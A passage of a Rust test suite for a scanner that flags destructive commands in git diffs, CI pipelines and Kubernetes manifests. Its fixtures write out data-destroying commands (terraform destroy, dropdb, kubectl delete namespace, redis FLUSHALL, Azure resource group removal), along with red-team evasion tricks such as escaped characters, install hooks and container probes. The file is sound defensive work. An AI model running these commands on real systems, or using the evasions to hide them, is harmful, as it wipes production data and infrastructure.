        ("DATABASE_URL=postgres://postgres@localhost:5432/app npx prisma migrate reset --force", &[]),
        // A red team's: read-only deployments, history, PowerShell's dry
        // run; a package.json script that is not last on its line.
        ("az deployment group what-if -g orders --template-file main.bicep --mode Complete", &[]),
        ("az group deployment create -g orders --template-file t.json --mode Complete", &["complete deployment"]),
        ("Remove-AzResourceGroupDeployment -ResourceGroupName orders -Name old", &[]),
        ("Remove-AzResourceGroup -Name orders-prod -Force -WhatIf", &[]),
        ("{\"scripts\":{\"nuke\":\"terraform destroy\",\"build\":\"tsc\"}}", &["terraform destroy"]),
        ("script: [\"terraform destroy\", \"echo done\"]", &["terraform destroy"]),
        // Resets run through another tool, build plugins, PowerShell in
        // small letters, a complete deployment by cmdlet.
        ("heroku run DISABLE_DATABASE_ENVIRONMENT_CHECK=1 rake db:reset --app orders-production", &["database"]),
        ("heroku run -a orders-pr-12 rake db:reset", &[]),
        ("kubectl exec -n prod deploy/web -- npx prisma migrate reset --force", &["database"]),
        ("docker compose exec -T web python manage.py flush --noinput", &["database"]),
        ("docker-compose run --rm -e MIX_ENV=prod web mix ecto.drop", &["database"]),
        ("docker compose exec web bin/rails db:migrate", &[]),
        ("docker run --rm myapp:1 npx prisma db push --force-reset", &["database"]),
        ("./mvnw flyway:clean -Dflyway.url=jdbc:postgresql://db/orders", &["database"]),
        ("./gradlew flywayClean", &["database"]),
        ("./gradlew build", &[]),
        ("remove-azresourcegroup -name rg-prod -force", &["remove-azresourcegroup"]),
        ("remove-azadgroupmember -groupobjectid x", &[]),
        (
            "New-AzResourceGroupDeployment -ResourceGroupName orders -TemplateFile main.bicep -Mode Complete",
            &["complete deployment"],
        ),
        ("New-AzResourceGroupDeployment -ResourceGroupName orders -TemplateFile main.bicep", &[]),
    ];
    for (line, want) in cases {
        assert_eq!(read(line), want.iter().map(|w| (*w).to_owned()).collect::<Vec<_>>(), "{line}");
    }
    // A removed line cancels an added one of the same type; a line over
    // 4 KiB is read in pieces cut between commands (a red team: a
    // command padded past 4 KiB went unread); files the caller does not
    // want are not read.
    let patch = b"diff --git a/ci.sh b/ci.sh\n--- a/ci.sh\n+++ b/ci.sh\n@@ -1 +1 @@\n-terraform destroy\n+terraform destroy -input=false\n";
    assert!(destructive_commands(patch, |_| true).is_empty());
    let long = |line: String| format!("diff --git a/ci.sh b/ci.sh\n--- a/ci.sh\n+++ b/ci.sh\n@@ -0,0 +1 @@\n+{line}\n");
    for line in [
        format!("terraform destroy {}", "x".repeat(5000)),
        format!(": {}; terraform destroy -auto-approve", "a".repeat(5000)),
        format!("{}terraform destroy", "true; ".repeat(2000)),
    ] {
        let found = destructive_commands(long(line).as_bytes(), |_| true);
        assert_eq!(found.get("ci.sh").map(Vec::as_slice), Some(&["terraform destroy".to_owned()][..]));
    }
    assert!(destructive_commands(long(format!("echo {}", "x".repeat(100_000))).as_bytes(), |_| true).is_empty());
    let patch = b"diff --git a/ci.sh b/ci.sh\n--- a/ci.sh\n+++ b/ci.sh\n@@ -0,0 +1 @@\n+terraform destroy\n";
    assert!(destructive_commands(patch, |_| false).is_empty());
    // A command continued over lines is read whole.
    let patch = b"diff --git a/ci.sh b/ci.sh\n--- a/ci.sh\n+++ b/ci.sh\n@@ -0,0 +1,3 @@\n+terraform -chdir=infra/prod \\\n+  destroy \\\n+  -auto-approve\n";
    assert_eq!(destructive_commands(patch, |_| true)["ci.sh"], ["terraform destroy"]);
    // A framework's database reset among the tasks people run by name
    // (`package.json`, a Makefile) is a developer's convenience; a
    // terraform destroy there still counts.
    let tasks = b"diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -3,0 +4,2 @@\n+    \"db:reset\": \"prisma migrate reset --force\",\n+    \"nuke\": \"terraform destroy -auto-approve\",\n";
    assert_eq!(destructive_commands(tasks, |_| true)["package.json"], ["terraform destroy"]);
    // Unless npm or the platform runs the script on its own (a lifecycle
    // script), or a deploy file runs the command on every release (a
    // `Procfile`'s process, `fly.toml`'s `release_command`): red team 11.
    let deploy = |path: &str, line: &str| -> Vec<String> {
        let patch = format!("diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -0,0 +1 @@\n+{line}\n");
        destructive_commands(patch.as_bytes(), |_| true).remove(path).unwrap_or_default()
    };
    let runs: &[(&str, &str, &[&str])] = &[
        ("package.json", "    \"postinstall\": \"prisma generate && prisma migrate reset --force\",", &["database"]),
        (
            "package.json",
            "{\"scripts\":{\"build\":\"tsc\",\"heroku-postbuild\":\"prisma migrate reset --force\"}}",
            &["database"],
        ),
        ("package.json", "    \"db:reset\": \"prisma migrate reset --force\",", &[]),
        ("Procfile", "release: python manage.py flush --no-input && gunicorn app", &["database"]),
        ("Procfile", "web: gunicorn app", &[]),
        ("fly.toml", "  release_command = \"npx prisma migrate reset --force\"", &["database"]),
        ("fly.toml", "  app = \"terraform-destroy\"", &[]),
        // Escapes in the value or key, read as JSON reads them (a red
        // team's misses), and an escaped quote in the value.
        ("package.json", "    \"post\\u0069nstall\": \"prisma migrate reset --force\",", &["database"]),
        ("package.json", "    \"postinstall\": \"prisma migrate r\\u0065set --force\",", &["database"]),
        ("package.json", "    \"postinstall\": \"\\\"kubectl\\\" delete namespace orders\"", &["Namespace"]),
        ("package.json", "    \"postinstall\": \"echo \\\"prisma migrate reset\\\"\",", &[]),
        (".github/workflows/d.yml", "      - run: \"kubectl delete n\\x61mespace orders\"", &["Namespace"]),
        (".github/workflows/d.yml", "      - run: \"redis-cli -h cache FLUSH\\u0041LL\"", &["redis flushall"]),
        // (Signs too: a substitution or a separator escaped; a quote
        // escaped stays as written.)
        (".github/workflows/d.yml", "      - run: \"echo \\u0024(dropdb orders)\"", &["database"]),
        (".github/workflows/d.yml", "      - run: \"echo ok\\u003b dropdb orders\"", &["database"]),
        (".github/workflows/d.yml", "      - run: \"echo \\u0022dropdb orders\\u0022\"", &[]),
    ];
    for (path, line, want) in runs {
        assert_eq!(deploy(path, line), *want, "{path}: {line}");
    }
    // Resets in scripts that point at a test or local database first, or
    // that set up a developer's machine, are that database's.
    let script = |path: &str, body: &str| {
        let lines: String = body.lines().map(|l| format!("+{l}\n")).collect();
        let patch = format!("diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -0,0 +1,3 @@\n{lines}");
        destructive_commands(patch.as_bytes(), |_| true).remove(path).unwrap_or_default()
    };
    assert!(
        script(
            "ops/reset.sh",
            "#!/bin/sh\nexport RAILS_ENV=test\nDISABLE_DATABASE_ENVIRONMENT_CHECK=1 bin/rails db:reset"
        )
        .is_empty()
    );
    assert!(
        script("ops/reset.sh", "export DATABASE_URL='postgresql://u@localhost:5433/app'\nnpx prisma migrate reset")
            .is_empty()
    );
    assert!(script(".devcontainer/post-create.sh", "npx prisma migrate reset --force").is_empty());
    assert_eq!(
        script("ops/reset.sh", "export DATABASE_URL=postgres://prod-db.internal/app\nnpx prisma migrate reset --force"),
        ["database"]
    );
    // Variables set from literals on the lines before are read as their
    // values: a review app's namespace, a tool named by a variable.
    assert!(
        script("ops/stop.sh", "NAMESPACE=review-$CI_COMMIT_REF_SLUG\nkubectl delete namespace \"$NAMESPACE\"")
            .is_empty()
    );
    assert_eq!(script("ops/stop.sh", "NS=orders\nkubectl delete namespace ${NS}"), ["Namespace"]);
    // A CI definition's path says where it runs, not what it resets (a
    // second red team: `ci.yml` and `.gitlab-ci.yml` read no reset).
    for path in [".github/workflows/ci.yml", ".gitlab-ci.yml", "scripts/ci/deploy.sh"] {
        assert_eq!(script(path, "npx prisma migrate reset --force"), ["database"], "{path}");
    }
    assert!(script("scripts/dev/reset.sh", "npx prisma migrate reset --force").is_empty());
    assert_eq!(script("ops/down.sh", "TF=tofu\n$TF destroy -auto-approve"), ["terraform destroy"]);
    let wide = format!("X={}\nkubectl delete pvc {}", "a".repeat(256), "$X".repeat(2000));
    assert_eq!(script("ops/wide.sh", &wide), ["PersistentVolumeClaim"]);
    // A line of more command substitutions than a script writes counts as
    // hiding a command; 64 are read.
    assert_eq!(read(&format!("echo {}", "\"$(date)\" ".repeat(65))), ["hidden_command"]);
    assert!(read(&format!("echo {}", "\"$(date)\" ".repeat(64))).is_empty());
    assert_eq!(read(&format!("echo {}\"$(dropdb orders)\"", "\"$(date)\" ".repeat(63))), ["database"]);
    // Many quotes on one long line: read in time, and more single-quoted
    // texts handed to a shell than substitutions count as hiding one.
    let quotes = format!("x {}", "'(' ".repeat(100_000));
    assert!(read(&quotes).is_empty());
    assert_eq!(read(&"sh -c 'echo (x)'; ".repeat(65)), ["hidden_command"]);
    assert!(read(&"sh -c 'echo (x)'; ".repeat(64)).is_empty());
    // Make runs `$(shell ...)` while it reads the Makefile.
    assert_eq!(script("Makefile", "VERSION := $(shell git describe)\nX := $(shell dropdb orders)"), ["database"]);
    assert!(script("Makefile", "VERSION := $(shell git describe --tags)").is_empty());
}

/// Steps that run a destroying action or task are read by the action
/// and its inputs, which no single line tells.
#[test]
fn pipeline_steps_that_run_destroying_actions_are_read() {
    use blastgate_ingest::git::pipeline_steps_destroy;
    let read =
        |text: &str| -> Vec<(String, usize)> { pipeline_steps_destroy(text.as_bytes()).unwrap().into_iter().collect() };
    let github = "jobs:\n  infra:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Tear down\n        uses: pulumi/actions@v5\n        with:\n          command: destroy\n          stack-name: acme/prod\n      - uses: dflook/terraform-destroy@v1\n        with:\n          path: infra/prod\n      - uses: \"hashicorp/tfc-workflows-github/actions/create-run@v1.3.0\"\n        with:\n          workspace: orders\n          is_destroy: true\n      - uses: azure/arm-deploy@v2\n        with:\n          resourceGroupName: orders-prod\n          template: ./main.bicep\n          deploymentMode: Complete\n      - uses: docker://hashicorp/terraform:1.9\n        with:\n          args: destroy -auto-approve\n";
    assert_eq!(
        read(github),
        [("complete deployment".to_owned(), 1), ("pulumi destroy".to_owned(), 1), ("terraform destroy".to_owned(), 3)]
    );
    // The same actions doing something else, or for a short-lived stack
    // or job, destroy nothing.
    let routine = "jobs:\n  infra:\n    steps:\n      - uses: pulumi/actions@v5\n        with:\n          command: up\n          stack-name: acme/prod\n      - uses: pulumi/actions@v5\n        with:\n          command: destroy\n          stack-name: acme/pr-${{ github.event.number }}\n      - uses: dflook/terraform-apply@v1\n        with:\n          path: infra\n  preview-teardown:\n    steps:\n      - uses: dflook/terraform-destroy-workspace@v1\n        with:\n          workspace: ${{ github.head_ref }}\n";
    assert_eq!(read(routine), []);
    let azure = "steps:\n- task: TerraformTaskV4@4\n  displayName: destroy\n  inputs:\n    provider: azurerm\n    command: 'destroy'\n    workingDirectory: infra/prod\n- task: TerraformTaskV4@4\n  inputs:\n    command: apply\n- task: AzureResourceManagerTemplateDeployment@3\n  inputs:\n    deploymentMode: 'Complete'\n    resourceGroupName: orders-prod\n";
    assert_eq!(read(azure), [("complete deployment".to_owned(), 1), ("terraform destroy".to_owned(), 1)]);
    let gitlab = "include:\n  - template: Terraform/Base.gitlab-ci.yml\ndestroy:\n  extends: .terraform:destroy\n  environment:\n    name: production\nplan:\n  extends:\n    - .terraform:build\nbuild:\n  extends: [.terraform:build, .terraform:destroy]\n";
    assert_eq!(read(gitlab), [("terraform destroy".to_owned(), 2)]);
    // A test job's database settings make its reset that test database's.
    use blastgate_ingest::git::pipeline_destroys;
    let rails = b"jobs:\n  rspec:\n    env:\n      RAILS_ENV: test\n    steps:\n      - run: DISABLE_DATABASE_ENVIRONMENT_CHECK=1 bin/rails db:drop db:create db:schema:load\n  deploy:\n    steps:\n      - run: DISABLE_DATABASE_ENVIRONMENT_CHECK=1 bin/rails db:reset\n";
    assert_eq!(pipeline_destroys(rails).unwrap().into_iter().collect::<Vec<_>>(), ["database"]);
    let everywhere =
        b"variables:\n  DATABASE_URL: postgres://runner@127.0.0.1/app\nspecs:\n  script:\n    - npx prisma migrate reset --force\n";
    assert!(pipeline_destroys(everywhere).unwrap().is_empty());
    let container = b"services: [mysql:8]\nvariables:\n  DB_HOST: mysql\nlaravel:\n  script:\n    - php artisan migrate:fresh --seed\n";
    assert!(pipeline_destroys(container).unwrap().is_empty());
    // A red team's: conditions that keep pull requests out mark nothing;
    // flow mappings, argument lists and full task names are read.
    let main_only = "jobs:\n  destroy:\n    if: github.event_name != 'pull_request'\n    steps:\n      - uses: dflook/terraform-destroy@v1\n";
    assert_eq!(read(main_only), [("terraform destroy".to_owned(), 1)]);
    let never = "destroy:\n  extends: .terraform:destroy\n  rules:\n    - if: $CI_MERGE_REQUEST_IID\n      when: never\n    - when: manual\n";
    assert_eq!(read(never), [("terraform destroy".to_owned(), 1)]);
    let flow = "jobs:\n  infra:\n    steps:\n      - uses: pulumi/actions@v5\n        with: {command: destroy, stack-name: acme/prod}\n      - uses: docker://ghcr.io/opentofu/opentofu:1.8\n        with:\n          args: [\"destroy\", \"-auto-approve\"]\n";
    assert_eq!(read(flow), [("pulumi destroy".to_owned(), 1), ("terraform destroy".to_owned(), 1)]);
    // Any image runs the command its arguments name, or its entrypoint
    // with them (red team 13).
    let image = "jobs:\n  reset:\n    steps:\n      - uses: docker://redis:7\n        with:\n          args: redis-cli -h cart-cache.prod FLUSHALL\n      - uses: docker://mongo:7\n        with:\n          entrypoint: mongosh\n          args: $MONGO_URI --eval db.dropDatabase()\n      - uses: docker://alpine:3\n        with:\n          args: echo done\n";
    assert_eq!(read(image), [("mongodb dropDatabase".to_owned(), 1), ("redis flushall".to_owned(), 1)]);
    let flow_step = "jobs:\n  infra:\n    steps:\n      - {uses: dflook/terraform-destroy@v1, with: {path: infra}}\n      - {uses: pulumi/actions@v5, with: {command: destroy, stack-name: acme/prod}}\n";
    assert_eq!(read(flow_step), [("pulumi destroy".to_owned(), 1), ("terraform destroy".to_owned(), 1)]);
    // A workflow that runs only when a pull request closes, or a branch
    // is deleted, cleans up after it.
    let cleanup = "on:\n  pull_request:\n    types: [closed]\njobs:\n  destroy:\n    steps:\n      - uses: dflook/terraform-destroy-workspace@v1\n        with:\n          workspace: ${{ steps.ws.outputs.name }}\n      - run: terraform destroy -auto-approve\n";
    assert_eq!(read(cleanup), []);
    assert!(pipeline_destroys(cleanup.as_bytes()).unwrap().is_empty());
    let also_manual = cleanup.replace("    types: [closed]\n", "    types: [closed]\n  workflow_dispatch:\n");
    assert_eq!(read(&also_manual), [("terraform destroy".to_owned(), 1)]);
    assert_eq!(read(&cleanup.replace("on:\n  pull_request:\n    types: [closed]\n", "on: delete\n")), []);
    // A job's own settings named in a command are read as their values.
    let preview = "on:\n  pull_request_target:\n    types: [unlabeled, closed]\n  workflow_dispatch:\njobs:\n  destroy:\n    runs-on: ubuntu-latest\n    steps:\n      - run: flyctl apps destroy \"$APP_NAME\" -y\n        env:\n          APP_NAME: grist-${{ github.event.pull_request.number }}\n      - run: kubectl delete namespace ${{ env.NS }}\n    env:\n      NS: orders\n";
    assert_eq!(pipeline_destroys(preview.as_bytes()).unwrap().into_iter().collect::<Vec<_>>(), ["Namespace"]);
    // A hidden GitLab job runs through the jobs that extend it.
    let hidden = "variables:\n  TF_ROOT: infra\n.teardown:\n  script:\n    - terraform destroy -auto-approve\nproduction:\n  extends: .teardown\n";
    assert_eq!(read(hidden), [("terraform destroy".to_owned(), 1)]);
    assert_eq!(pipeline_destroys(hidden.as_bytes()).unwrap().into_iter().collect::<Vec<_>>(), ["terraform destroy"]);
    let library = ".teardown:\n  script:\n    - terraform destroy -auto-approve\n";
    assert_eq!(read(library), []);
    assert!(pipeline_destroys(library.as_bytes()).unwrap().is_empty());
    let qualified = "steps:\n- task: ms-devlabs.custom-terraform-tasks.custom-terraform-release-task.TerraformTaskV4@4\n  inputs: {provider: azurerm, command: destroy}\n";
    assert_eq!(read(qualified), [("terraform destroy".to_owned(), 1)]);
    assert_eq!(pipeline_steps_destroy(b"\0"), None);
}

/// A container step runs its command line: Google Cloud Build's image
/// (`name:`) with its `entrypoint:` and `args:`, Tekton's and Argo
/// Workflows' `image:` with `command:` and `args:` (a red team's misses:
/// `args: ['sql', 'instances', 'delete', ...]` was never read).
/// What the patch reader finds in `text` added whole as a GitHub Actions
/// workflow (the whole-file reader's twin, which a test compares with).
fn added_workflow_reads(text: &str) -> Vec<String> {
    use blastgate_ingest::git::destructive_commands;
    let added: String = text.lines().map(|l| format!("+{l}\n")).collect();
    let n = text.lines().count();
    let patch = format!(
        "diff --git a/.github/workflows/d.yml b/.github/workflows/d.yml\n--- /dev/null\n+++ b/.github/workflows/d.yml\n@@ -0,0 +1,{n} @@\n{added}"
    );
    destructive_commands(patch.as_bytes(), |_| true).remove(".github/workflows/d.yml").unwrap_or_default()
}

#[test]
fn scalars_over_lines_are_one_command() {
    use blastgate_ingest::git::pipeline_destroys;
    // A red team's: a plain or quoted `run:` value going on over lines is
    // one command, as YAML folds it; a key or list item after it is not.
    for run in [
        "      - run: kubectl delete\n          namespace orders\n",
        "      - run: \"kubectl delete\n          namespace orders\"\n",
        "      - run: 'kubectl delete\n          namespace orders'\n",
    ] {
        let text = format!("jobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n{run}");
        assert_eq!(
            pipeline_destroys(text.as_bytes()).unwrap().into_iter().collect::<Vec<_>>(),
            ["Namespace"],
            "{text}"
        );
        assert_eq!(added_workflow_reads(&text), ["Namespace"], "{text}");
    }
    // A step written as a flow mapping, and steps as a flow list.
    for steps in [
        "      - {name: w, run: kubectl delete namespace orders}\n",
        "    steps: [{run: \"kubectl delete namespace orders\"}]\n",
    ] {
        let text = format!("jobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n{steps}");
        assert_eq!(
            pipeline_destroys(text.as_bytes()).unwrap().into_iter().collect::<Vec<_>>(),
            ["Namespace"],
            "{text}"
        );
        assert_eq!(added_workflow_reads(&text), ["Namespace"], "{text}");
    }
    let apart = "jobs:\n  d:\n    steps:\n      - run: kubectl get\n        name: namespace orders\n      - run: echo delete\n      - run: echo ${{ inputs.command }}\n";
    assert!(pipeline_destroys(apart.as_bytes()).unwrap().is_empty());
    let one = "jobs:\n  d:\n    steps:\n      - run: echo hello\n      - run: terraform destroy -auto-approve\n";
    assert_eq!(pipeline_destroys(one.as_bytes()).unwrap().into_iter().collect::<Vec<_>>(), ["terraform destroy"]);
}

#[test]
fn steps_run_in_another_language_are_read_as_it() {
    use blastgate_ingest::git::{destructive_commands, pipeline_destroys};
    // A red team's: `shell: python` (on the step, after or before `run:`,
    // or as a default) and `node {0}` ran their programs unread.
    let files = [
        "jobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: python\n        run: |\n          import subprocess\n          subprocess.run([\"kubectl\", \"delete\", \"namespace\", \"orders\"], check=True)\n",
        "jobs:\n  d:\n    steps:\n      - run: |\n          import os\n          os.system(\"dropdb orders\")\n        shell: python3 {0}\n",
        "defaults:\n  run:\n    shell: python\njobs:\n  d:\n    steps:\n      - run: |\n          import subprocess\n          subprocess.run([\"kubectl\", \"delete\", \"namespace\", \"orders\"])\n",
        "jobs:\n  d:\n    steps:\n      - shell: node {0}\n        run: |\n          const cp = require(\"child_process\");\n          cp.spawnSync(\"kubectl\", [\"delete\", \"namespace\", \"orders\"]);\n",
    ];
    for text in files {
        let whole: Vec<String> = pipeline_destroys(text.as_bytes()).unwrap().into_iter().collect();
        assert!(whole == ["Namespace"] || whole == ["database"], "{whole:?}: {text}");
        assert_eq!(added_workflow_reads(text), whole, "{text}");
    }
    // A program fed to an interpreter by a here-document, in a script and
    // in a CI definition (a red team's misses); one that only reads, and a
    // here-document printed, run nothing destroyed.
    let script = "#!/bin/sh\npython3 - <<EOF\nimport subprocess\nsubprocess.run([\"kubectl\", \"delete\", \"namespace\", \"orders\"])\nEOF\necho done\n";
    let added: String = script.lines().map(|l| format!("+{l}\n")).collect();
    let patch = format!(
        "diff --git a/deploy/wipe.sh b/deploy/wipe.sh\n--- /dev/null\n+++ b/deploy/wipe.sh\n@@ -0,0 +1,6 @@\n{added}"
    );
    assert_eq!(destructive_commands(patch.as_bytes(), |_| true)["deploy/wipe.sh"], ["Namespace"]);
    let gitlab = "wipe:\n  script:\n    - |\n      python3 - <<'PY'\n      import subprocess\n      subprocess.run([\"kubectl\", \"delete\", \"namespace\", \"orders\"])\n      PY\n";
    assert_eq!(pipeline_destroys(gitlab.as_bytes()).unwrap().into_iter().collect::<Vec<_>>(), ["Namespace"]);
    let reads = gitlab.replace("\"delete\"", "\"get\"");
    assert!(pipeline_destroys(reads.as_bytes()).unwrap().is_empty());
    // A Python step that only reads, runs nothing destroyed.
    let quiet = "jobs:\n  d:\n    steps:\n      - shell: python\n        run: |\n          import subprocess\n          subprocess.run([\"kubectl\", \"get\", \"namespace\", \"orders\"])\n";
    assert!(pipeline_destroys(quiet.as_bytes()).unwrap().is_empty());
}

#[test]
fn container_steps_run_their_command_lines() {
    use blastgate_ingest::git::pipeline_steps_destroy;
    let read = |text: &str| -> Vec<String> {
        let mut found: Vec<String> = Vec::new();
        for (kind, n) in pipeline_steps_destroy(text.as_bytes()).unwrap() {
            found.extend(std::iter::repeat_n(kind, n));
        }
        found
    };
    let cloudbuild = "steps:\n- name: 'gcr.io/cloud-builders/gcloud'\n  args: ['sql', 'instances', 'delete', 'orders-prod', '--quiet']\n- name: gcr.io/cloud-builders/kubectl\n  args:\n  - delete\n  - namespace\n  - orders\n  env:\n  - CLOUDSDK_CONTAINER_CLUSTER=prod\n- name: hashicorp/terraform:1.9\n  dir: infra/prod\n  args: [\"destroy\",\n         \"-auto-approve\"]\n";
    assert_eq!(read(cloudbuild), ["Namespace", "gcloud sql instances delete", "terraform destroy"]);
    // A shell's script, given flow style or as a block item.
    let shells = "steps:\n- name: gcr.io/google.com/cloudsdktool/cloud-sdk\n  entrypoint: bash\n  args: ['-c', 'gcloud sql instances delete orders-prod --quiet']\n- name: ubuntu\n  args:\n    - bash\n    - -ec\n    - |\n      echo tearing down\n      terraform -chdir=infra/prod \\\n        destroy -auto-approve\n";
    assert_eq!(read(shells), ["gcloud sql instances delete", "terraform destroy"]);
    let tekton = "apiVersion: tekton.dev/v1\nkind: Task\nspec:\n  steps:\n    - name: teardown\n      image: bitnami/kubectl:1.30\n      command: [\"/bin/sh\", \"-c\"]\n      args:\n        - kubectl delete pvc data-ledger-0\n    - name: apply\n      image: hashicorp/terraform\n      args: [apply, -auto-approve]\n";
    assert_eq!(read(tekton), ["PersistentVolumeClaim"]);
    // A templated image, as `helm create` writes it (a red team's miss: a
    // Helm hook Job's command went unread).
    let hook = "apiVersion: batch/v1\nkind: Job\nspec:\n  template:\n    spec:\n      containers:\n      - name: w\n        image: \"{{ .Values.image.repository }}:{{ .Values.image.tag }}\"\n        command: [\"/bin/sh\",\"-c\",\"redis-cli -h cache FLUSHALL\"]\n";
    assert_eq!(read(hook), ["redis flushall"]);
    // A container's lifecycle hooks run their commands in it, as its own
    // command runs (a red team's misses: `postStart` and `preStop` went
    // unread); a hook that runs no command, or a harmless one, destroys
    // nothing.
    let hooks = "apiVersion: apps/v1\nkind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n        - name: orders\n          image: orders-api:1.4\n          lifecycle:\n            postStart:\n              exec:\n                command: [\"sh\", \"-c\", \"dropdb orders\"]\n            preStop:\n              exec:\n                command:\n                  - redis-cli\n                  - -h\n                  - cart-cache\n                  - FLUSHALL\n";
    assert_eq!(read(hooks), ["database", "redis flushall"]);
    let quiet = "apiVersion: apps/v1\nkind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n        - name: orders\n          image: orders-api:1.4\n          # postStart: dropdb orders\n          lifecycle:\n            postStart:\n              httpGet:\n                path: /warm\n                port: 8080\n            preStop:\n              exec:\n                command: [\"/bin/sh\", \"-c\", \"sleep 5\"]\n";
    assert_eq!(read(quiet), Vec::<String>::new());
    // Its probes run commands in it too, over and over (a red team's
    // misses: a liveness probe's `exec:` went unread); a probe of another
    // kind, or a harmless command, destroys nothing.
    let probes = "apiVersion: apps/v1\nkind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n        - name: orders\n          image: orders-api:1.4\n          livenessProbe:\n            exec:\n              command: [\"sh\", \"-c\", \"dropdb orders\"]\n            periodSeconds: 10\n          readinessProbe:\n            exec:\n              command:\n                - redis-cli\n                - -h\n                - cart-cache\n                - FLUSHALL\n          startupProbe:\n            exec:\n              command: [kubectl, delete, namespace, orders]\n";
    assert_eq!(read(probes), ["Namespace", "database", "redis flushall"]);
    let healthy = "apiVersion: apps/v1\nkind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n        - name: orders\n          image: orders-api:1.4\n          livenessProbe:\n            exec:\n              command: [cat, /tmp/healthy]\n          readinessProbe:\n            httpGet:\n              path: /ready\n              port: 8080\n          startupProbe:\n            tcpSocket:\n              port: 8080\n";
    assert_eq!(read(healthy), Vec::<String>::new());
    // Routine steps, step titles, images of no tool with arguments of
    // their own, short-lived targets, and a GitLab job's image, run
    // nothing destroyed.
    let routine = "steps:\n- name: gcr.io/cloud-builders/docker\n  args: ['build', '-t', 'gcr.io/$PROJECT_ID/orders', '.']\n- name: gcr.io/cloud-builders/gcloud\n  args: ['run', 'deploy', 'orders', '--image', 'gcr.io/$PROJECT_ID/orders']\n- name: gcr.io/cloud-builders/gcloud\n  args: ['sql', 'instances', 'delete', 'orders-pr-$_PR_NUMBER']\n- name: hashicorp/terraform\n  args: ['destroy', '-auto-approve']\n  env: ['TF_WORKSPACE=preview-$_PR_NUMBER']\n- name: Delete the database\n  args: ['delete']\n";
    assert_eq!(read(routine), Vec::<String>::new());
    let gitlab = "destroy:\n  image:\n    name: hashicorp/terraform:1.9\n    entrypoint: [\"\"]\n  script:\n    - terraform plan\n";
    assert_eq!(read(gitlab), Vec::<String>::new());
    // A red team's: PowerShell's options before `-Command`, a slim
    // image's tool, Tekton's settings, a step's folder, a task's
    // parameters that look like markers, and a script line that says
    // `environment: dev` (a setting of no step).
    let more = "steps:\n- name: mcr.microsoft.com/powershell\n  entrypoint: pwsh\n  args: ['-NoProfile', '-NonInteractive', '-ExecutionPolicy', 'Bypass', '-Command', 'Remove-AzResourceGroup -Name rg-orders-prod -Force']\n- name: gcr.io/cloud-builders/gcloud-slim\n  args: ['sql', 'instances', 'delete', 'orders-prod']\n- name: gcr.io/cloud-builders/gcloud\n  entrypoint: bash\n  args:\n  - -c\n  - |\n    gcloud container clusters delete orders-prod --quiet\n    echo \"environment: dev stack cleaned\"\n";
    assert_eq!(
        read(more),
        ["Remove-AzResourceGroup", "gcloud container clusters delete", "gcloud sql instances delete"]
    );
    let tekton_params = "apiVersion: tekton.dev/v1\nkind: Task\nspec:\n  params:\n    - name: branch_name\n  steps:\n    - name: drop\n      image: gcr.io/cloud-builders/gcloud\n      command: [\"gcloud\"]\n      args: [\"sql\", \"instances\", \"delete\", \"orders-prod\", \"--quiet\"]\n      env:\n        - name: BUILD_NUMBER\n          value: $(params.build-number)\n";
    assert_eq!(read(tekton_params), ["gcloud sql instances delete"]);
    let previews = "apiVersion: tekton.dev/v1\nkind: Task\nspec:\n  steps:\n    - name: destroy\n      image: hashicorp/terraform\n      args: [destroy, -auto-approve]\n      env:\n        - name: TF_WORKSPACE\n          value: pr-$(params.pull_request_number)\n    - name: dev\n      image: hashicorp/terraform\n      workingDir: $(workspaces.source.path)/infra/envs/preview\n      args: [destroy, -auto-approve]\n";
    assert_eq!(read(previews), Vec::<String>::new());
    // (A script's variable set by the step's `- name:` and `value:`.)
    use blastgate_ingest::git::pipeline_destroys;
    let script = "apiVersion: tekton.dev/v1\nkind: Task\nspec:\n  steps:\n    - name: cleanup\n      image: bitnami/kubectl\n      script: |\n        kubectl delete namespace \"$NAMESPACE\"\n      env:\n        - name: NAMESPACE\n          value: preview-$(params.pr-number)\n";
    assert!(pipeline_destroys(script.as_bytes()).unwrap().is_empty());
    let prod = script.replace("preview-$(params.pr-number)", "orders");
    assert_eq!(pipeline_destroys(prod.as_bytes()).unwrap().into_iter().collect::<Vec<_>>(), ["Namespace"]);
    let dir = "steps:\n- name: hashicorp/terraform\n  dir: infra/envs/dev\n  args: ['destroy', '-auto-approve']\n";
    assert_eq!(read(dir), Vec::<String>::new());
    // A red team's: a Tekton step that runs its template's image, a list
    // after a comment, and settings that merely hold the word
    // `environment` or `release` (a monitor's label, a channel, a file).
    let template = "apiVersion: tekton.dev/v1\nkind: Task\nspec:\n  stepTemplate:\n    image: hashicorp/terraform:1.7  # pinned\n  steps:\n    - name: teardown\n      args: [destroy, -auto-approve]\n    - name: plan\n      args: [plan]\n";
    assert_eq!(read(template), ["terraform destroy"]);
    let npm = "steps:\n- name: gcr.io/cloud-builders/npm\n  args: [run, teardown]\n- name: gcr.io/cloud-builders/docker\n  args: [run, postgres:16, dropdb, -h, db.prod, orders]\n- name: node:20\n  args: [npm, run, nuke]\n";
    assert_eq!(read(npm), ["database", "runs task package.json ./ nuke", "runs task package.json ./ teardown"]);
    let commented = "steps:\n- name: gcr.io/cloud-builders/gcloud\n  args:   # the teardown\n  - sql\n  - instances\n  - delete\n  - orders\n";
    assert_eq!(read(commented), ["gcloud sql instances delete"]);
    for env in ["SENTRY_ENVIRONMENT=ci", "RELEASE_CHANNEL=dev", "ENVIRONMENT_FILE=test.env", "DD_ENV=dev"] {
        let labelled = format!(
            "steps:\n- name: gcr.io/cloud-builders/gcloud\n  env: ['{env}']\n  args: [sql, instances, delete, orders]\n"
        );
        assert_eq!(read(&labelled), ["gcloud sql instances delete"], "{env}");
    }
    for env in ["TF_WORKSPACE=pr-$_PR_NUMBER", "PULUMI_STACK_NAME=preview", "KUBE_NAMESPACE=review-1"] {
        let short = format!(
            "steps:\n- name: gcr.io/cloud-builders/gcloud\n  env: ['{env}']\n  args: [sql, instances, delete, orders]\n"
        );
